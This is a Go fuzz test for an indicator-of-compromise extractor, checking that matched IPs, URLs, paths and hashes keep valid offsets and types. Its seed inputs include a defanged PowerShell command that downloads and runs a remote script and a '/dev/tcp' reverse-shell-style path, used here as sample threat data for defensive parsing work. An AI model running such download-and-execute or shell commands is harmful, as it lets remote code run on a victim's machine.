package ioc

import (
	"testing"
	"unicode/utf8"
)

func FuzzExtract(f *testing.F) {
	seeds := []string{
		`powershell -nop -c "IEX (New-Object Net.WebClient).DownloadString('hxxp://198[.]51.100.7:8080/a.ps1')"`,
		`C:\Program Files\x y\z.exe \\10.0.0.1\c$\a "C:\a b\c d.exe" %TEMP%\x.exe \??\C:\w`,
		`https://u:p@[2001:db8::1]:443/p?q=http%3A%2F%2Fe.example.com%2F#f ::ffff:1.2.3.4`,
		`bob[at]corp[.]example.com e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855`,
		`/dev/tcp/1.2.3.4/80 ./x ../y ~/z a.b.c.d.example.co.uk. 1.2.3.4.5`,
		"[.](.){.}[dot][at](at)[:][://][/]hxxp://",
		"http://a://b://c://d%%%25%2",
		"\\\\\\\\?\\C:\\\\x\\\\ \\\\.\\pipe\\p",
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		for _, opt := range []Options{{Types: Types()}, {Types: Types(), NoDefang: true}, {TopLevel: true}} {
			for _, m := range ExtractWith(in, opt) {
				checkMatch(t, in, m)
			}
		}
	})
}

// checkMatch verifies the invariants every match keeps.
func checkMatch(t *testing.T, in string, m Match) {
	t.Helper()
	if m.Start < 0 || m.Start > m.End || m.End > len(in) {
		t.Fatalf("offsets %d..%d out of range for %d bytes: %+v", m.Start, m.End, len(in), m)
	}
	if !m.Decoded && in[m.Start:m.End] != m.Text {
		t.Fatalf("Text %q is not input[%d:%d] = %q", m.Text, m.Start, m.End, in[m.Start:m.End])
	}
	if m.Value == "" || m.Text == "" {
		t.Fatalf("empty match %+v", m)
	}
	if _, err := ParseType(string(m.Type)); err != nil {
		t.Fatalf("bad type in %+v", m)
	}
	if m.Type == IPv4 && !validIPv4(m.Value) {
		t.Fatalf("invalid ipv4 %+v", m)
	}
	if utf8.ValidString(in) && !m.Decoded && !utf8.ValidString(m.Value) && m.Type != WindowsPath && m.Type != LinuxPath {
		t.Fatalf("value of valid UTF-8 input is not UTF-8: %+v", m)
	}
}
